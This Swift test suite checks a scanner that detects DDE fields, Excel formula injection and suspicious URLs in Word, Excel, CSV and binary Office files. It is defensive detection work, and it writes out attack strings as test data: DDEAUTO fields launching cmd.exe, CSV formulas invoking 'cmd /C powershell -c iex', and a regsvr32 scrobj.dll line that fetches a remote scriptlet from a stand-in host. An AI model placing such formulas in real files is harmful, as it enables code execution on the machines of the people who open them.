import Foundation
import OOXML
import Testing

@Suite("DDE")
struct DDETests {
    @Test(arguments: Fixture.packageNames)
    func packagesMatchMsodde(name: String) throws {
        let package = try Fixture.package(name)
        let golden = try #require(Fixture.goldens.packages[name])
        var unique: [String] = []
        for field in package.ddeFields() where !unique.contains(field.instruction) { unique.append(field.instruction) }
        #expect(unique == golden.msodde, "\(name)")
    }

    @Test func wordCommands() throws {
        let fields = try Fixture.package("msodde__dde-test.docx").ddeFields()
        #expect(fields.map(\.command) == [
            #"c:\windows\system32\cmd.exe /k calc.exe"#, #"c:\windows\system32\cmd.exe /k calc.exe"#,
            "ünicöde-test",
        ])
        #expect(fields.allSatisfy { $0.part == "word/document.xml" })
        let xml = try #require(try Fixture.package("msodde__dde-test.docx").parts["word/document.xml"])
        // The offset points at the field's begin character.
        let at = try #require(fields.first?.offset)
        #expect(String(decoding: xml[at..<(at + 12)], as: UTF8.self) == "<w:fldChar w")
    }

    @Test(arguments: ["msodde__dde-test.xlsx", "msodde__dde-test.xlsm", "msodde__dde-test.xlsb"])
    func excelCommands(name: String) throws {
        let fields = try Fixture.package(name).ddeFields()
        #expect(fields.map(\.command) == ["cmd /c calc.exe"])
    }

    @Test func specimens() throws {
        let split = try Fixture.package("specimen-dde-split.docx").ddeFields()
        #expect(split.map(\.command) == [
            #"c:\Windows\System32\cmd.exe /k echo emoguard-test"#, "cmd.exe /c echo emoguard-quote",
        ])
        let link = try Fixture.package("specimen-ddelink.xlsx").ddeFields()
        #expect(link.map(\.command) == ["cmd /c echo emoguard-test"])
        #expect(link.first?.part == "xl/externalLinks/externalLink1.xml")
    }

    @Test(arguments: ["dde-in-excel2003.xml", "dde-in-word2003.xml", "dde-in-word2007.xml", "harmless-clean-2003.xml",
                      "harmless-clean.xml"])
    func flatXMLMatchesMsodde(name: String) throws {
        let fields = OOXMLScanner.ddeInFlatXML(try Fixture.bytes("flat/\(name)"))
        let golden = try #require(Fixture.goldens.flat[name])
        #expect(fields.map { Self.msoddeStyle($0) } == golden, "\(name)")
    }

    @Test func csvMatchesMsodde() throws {
        let fields = OOXMLScanner.ddeInCSV(try Fixture.bytes("flat/dde-in-csv.csv"))
        #expect(fields.map(\.command) == [#"cmd /k \..\..\..\Windows\System32\calc.exe"#])
        #expect(fields.map { $0.command } == Fixture.goldens.flat["dde-in-csv.csv"]?.map { $0.replacingOccurrences(of: "'", with: "") })
    }

    @Test func csvVariants() {
        let csv = Array(
            """
            Name,Amount,Note
            Invoice,4711,"=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:https://x.example.invalid/a.sct scrobj.dll'!''"
            a;+cmd|' /C powershell -c "iex"'!A0;b
            =SUM(A1:A3),=IF(A1="x|y";1;2)!
            -2+3,@cmd|'/c calc'!_
            """.utf8)
        let commands = OOXMLScanner.ddeInCSV(csv).map(\.command)
        #expect(commands == [
            #"MSEXCEL \..\..\Windows\System32\regsvr32 /s /n /u /i:https://x.example.invalid/a.sct scrobj.dll"#,
            #"cmd /C powershell -c "iex""#, "cmd /c calc",
        ])
    }

    @Test(arguments: Fixture.goldens.doc.keys.sorted())
    func wordBinaryMatchesMsodde(name: String) throws {
        let fields = OOXMLScanner.ddeInWordBinary(stream: try Fixture.bytes("doc/\(name).WordDocument"))
        let golden = try #require(Fixture.goldens.doc[name])
        // msodde turns non-ASCII 8-bit text into "?" and keeps the zero bytes of UTF-16 text.
        let ours = fields.map { String($0.instruction.unicodeScalars.map { $0.isASCII ? Character($0) : "?" }) }
        #expect(ours == golden.map { $0.replacingOccurrences(of: "\u{0}", with: "") }, "\(name)")
        if !golden.isEmpty {
            #expect(fields.first?.command == #"c:\windows\system32\cmd.exe /k calc.exe"#)
            #expect(fields.first?.part == "WordDocument")
        }
    }

    @Test func nestedAndObfuscatedFields() {
        let xml = Array(
            """
            <w:document xmlns:w="urn:w"><w:body><w:p>
            <w:r><w:fldChar w:fldCharType="begin"/></w:r>
            <w:r><w:instrText>DDEAUTO </w:instrText></w:r>
            <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 99 109 100</w:instrText></w:r>
            <w:r><w:fldChar w:fldCharType="end"/></w:r>
            <w:r><w:instrText xml:space="preserve"> "/c </w:instrText></w:r>
            <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF x</w:instrText></w:r>
            <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>calc</w:t></w:r>
            <w:r><w:fldChar w:fldCharType="end"/></w:r>
            <w:r><w:instrText>"</w:instrText></w:r>
            <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>
            <w:r><w:fldChar w:fldCharType="end"/></w:r>
            <w:fldSimple w:instr=" HYPERLINK &quot;https://a.example.invalid&quot; "/>
            <w:r><w:fldChar w:fldCharType="end"/></w:r>
            </w:p></w:body></w:document>
            """.utf8)
        let all = OOXMLScanner.wordFields(wordXML: xml)
        #expect(all.map(\.type) == ["QUOTE", "REF", "DDEAUTO", "HYPERLINK"])
        #expect(all[2].instruction == #"DDEAUTO cmd "/c calc""#)
        #expect(all[2].result == "shown")
        let dde = OOXMLScanner.ddeFields(wordDocumentXML: xml, partName: "word/document.xml")
        #expect(dde.map(\.command) == ["cmd /c calc"])
    }

    @Test func fieldCodeArguments() {
        let args = FieldCode.arguments(#" DDEAUTO "C:\\Program Files\\x.exe" c:\\a\"b \a \t "#)
        #expect(args.map(\.text) == ["DDEAUTO", #"C:\Program Files\x.exe"#, #"c:\a"b"#, #"\a"#, #"\t"#])
        #expect(args.map(\.isSwitch) == [false, false, false, true, true])
        #expect(FieldCode.isDDE("  dde x y"))
        #expect(FieldCode.isDDE("DDEAUTO\"x\" y"))
        #expect(!FieldCode.isDDE("DDEX x"))
        #expect(!FieldCode.isDDE(""))
        #expect(FieldCode.quoteResult("QUOTE 65 \"b c\" 9999999999 1114112") == "Ab c99999999991114112")
        #expect(FieldCode.quoteResult("QUOTES 65") == nil)
        #expect(FieldCode.ddeCommand("DDE") == "")
        #expect(FieldCode.ddeCommand(#"DDE "unterminated"#) == "unterminated")
    }

    @Test func xlsbRecords() {
        func record(_ type: Int, _ data: [UInt8]) -> [UInt8] {
            var out: [UInt8] = type < 128 ? [UInt8(type)] : [UInt8(type & 0x7F | 0x80), UInt8(type >> 7)]
            var size = data.count
            repeat {
                out.append(UInt8(size & 0x7F) | (size > 0x7F ? 0x80 : 0))
                size >>= 7
            } while size > 0
            return out + data
        }
        func wide(_ s: String) -> [UInt8] {
            let units = Array(s.utf16)
            return withUnsafeBytes(of: UInt32(units.count).littleEndian, Array.init)
                + units.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
        }
        let dde = record(360, [1, 0] + wide("cmd") + wide("/c calc"))
        let workbook = record(360, [0, 0] + wide("book.xlsx") + wide(""))
        let filler = record(1, Array(repeating: 7, count: 300))
        let part = filler + workbook + dde + record(361, [])
        #expect(OOXMLScanner.ddeLinksXLSB(binaryPart: part, partName: "x").map(\.command) == ["cmd /c calc"])
        #expect(OOXMLScanner.ddeLinksXLSB(binaryPart: part, partName: "x").first?.offset == filler.count + workbook.count)
        // Truncated, oversized and garbage input: no crash, no links.
        for n in 0..<part.count {
            _ = OOXMLScanner.ddeLinksXLSB(binaryPart: Array(part.prefix(n)), partName: "x")
        }
        let huge = record(360, [1, 0, 0xFF, 0xFF, 0xFF, 0xFF])
        #expect(OOXMLScanner.ddeLinksXLSB(binaryPart: huge, partName: "x").isEmpty)
        #expect(OOXMLScanner.ddeLinksXLSB(binaryPart: [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF], partName: "x").isEmpty)
    }

    @Test func excelFormulas() {
        let sheet = Array(
            """
            <worksheet><sheetData><row><c><f>cmd|'/c calc'!A0</f></c><c><f>SUM(A1:A2)</f></c>
            <c><f>IF(A1="a|b",1,2)!</f></c><c><f>msexcel|'\\..\\x.exe'!''</f></c></row></sheetData></worksheet>
            """.utf8)
        let links = OOXMLScanner.ddeLinks(excelPartXML: sheet, partName: "xl/worksheets/sheet1.xml")
        #expect(links.map(\.command) == ["cmd /c calc", #"msexcel \..\x.exe"#])
        #expect(links.first?.instruction == "cmd|'/c calc'!A0")
    }

    @Test func limitsBoundTheScan() {
        var limits = OOXMLScanLimits.default
        limits.maxFindings.maximum = 3
        let many = "<w:document>" + String(repeating: "<w:fldSimple w:instr='DDE a b'/>", count: 10) + "</w:document>"
        #expect(OOXMLScanner.ddeFields(wordDocumentXML: Array(many.utf8), partName: "", limits: limits).count == 3)
        limits = .default
        limits.maxFieldNesting.maximum = 2
        let deep = "<d>" + String(repeating: "<fldChar fldCharType='begin'/>", count: 5)
            + "<instrText>DDE x y</instrText>" + String(repeating: "<fldChar fldCharType='end'/>", count: 5) + "</d>"
        #expect(OOXMLScanner.wordFields(wordXML: Array(deep.utf8), limits: limits).count == 2)
        limits = .default
        limits.maxInstructionBytes.maximum = 8
        let long = "<d><fldChar fldCharType='begin'/><instrText>DDE abcdefghijk</instrText><fldChar fldCharType='end'/></d>"
        #expect(OOXMLScanner.wordFields(wordXML: Array(long.utf8), limits: limits).first?.instruction == "DDE abcd")
    }

    @Test func binaryFieldLengthLimit() {
        let limit = OOXMLScanner.maxBinaryFieldBytes.maximum
        let fits = [0x13] + Array("DDE a ".utf8) + [UInt8](repeating: 0x62, count: limit - 7) + [0x15]
        let long = [0x13] + Array("DDE a ".utf8) + [UInt8](repeating: 0x62, count: limit) + [0x15]
        #expect(OOXMLScanner.ddeInWordBinary(stream: fits).count == 1)
        #expect(OOXMLScanner.ddeInWordBinary(stream: long).isEmpty)
        // A field after a skipped one is still found.
        #expect(OOXMLScanner.ddeInWordBinary(stream: long + fits).count == 1)
    }

    @Test func malformedPartsStillYieldWhatCameBefore() {
        let xml = "<w:document><w:fldSimple w:instr='DDE a b'/><w:p></w:document>"
        #expect(OOXMLScanner.ddeFields(wordDocumentXML: Array(xml.utf8), partName: "").count == 1)
        #expect(OOXMLScanner.ddeLinks(excelPartXML: [0xFF, 0x00, 0x3C], partName: "").isEmpty)
        #expect(OOXMLScanner.ddeInFlatXML([]).isEmpty)
        #expect(OOXMLScanner.ddeInCSV([0xFF, 0xFE, 0x0A, 0x3D]).isEmpty)
        #expect(OOXMLScanner.ddeInWordBinary(stream: [0x13, 0x00, 0x13, 0x44, 0x14]).isEmpty)
        #expect(OOXMLScanner.ddeInWordBinary(stream: Array("\u{13}DDE a b".utf8)).isEmpty)
        #expect(OOXMLScanner.ddeInWordBinary(stream: Array("\u{13}DDE a b\u{15}".utf8)).map(\.command) == ["a b"])
    }

    /// A DDE link as msodde prints it for a formula (`cmd '/c calc.exe'`): service and quoted topic.
    static func msoddeStyle(_ field: DDEField) -> String {
        guard field.instruction.contains("|"), let pipe = field.instruction.firstIndex(of: "|"),
            let bang = field.instruction.lastIndex(of: "!")
        else { return field.instruction }
        let service = field.instruction[..<pipe].drop { "=+-@ \"".contains($0) }
        return service + " " + field.instruction[field.instruction.index(after: pipe)..<bang]
    }
}

@Suite("URLs")
struct URLTests {
    @Test func urlsInXML() {
        let xml = Array(
            """
            <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
            <Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
              Target="mhtml:https://a.example.invalid/x.html!x-usc:https://a.example.invalid/x.html"/>
            <w:t>Visit https://b.example.invalid/pay?id=1&amp;x=2 or http://b.example.invalid/pay?id=1&amp;x=2.</w:t>
            <w:t>again https://b.example.invalid/pay?id=1&amp;x=2 and ftp://c.example.invalid/f "file:///C:/x"</w:t>
            <w:instrText>HYPERLINK "\\\\\\\\d.example.invalid\\\\share"</w:instrText>
            <a href="http://www.w3.org/1999/xhtml"/>
            </w:document>
            """.utf8)
        #expect(OOXMLScanner.urls(inXML: xml) == [
            "mhtml:https://a.example.invalid/x.html!x-usc:https://a.example.invalid/x.html",
            "https://b.example.invalid/pay?id=1&x=2", "http://b.example.invalid/pay?id=1&x=2.",
            "ftp://c.example.invalid/f", "file:///C:/x",
        ])
    }

    @Test func specimenTemplateURL() throws {
        let package = try Fixture.package("specimen-template-injection.docx")
        let rels = try #require(package.parts["word/_rels/settings.xml.rels"])
        #expect(OOXMLScanner.urls(inXML: rels) == ["https://templates.example.invalid/t.dotm"])
    }
}
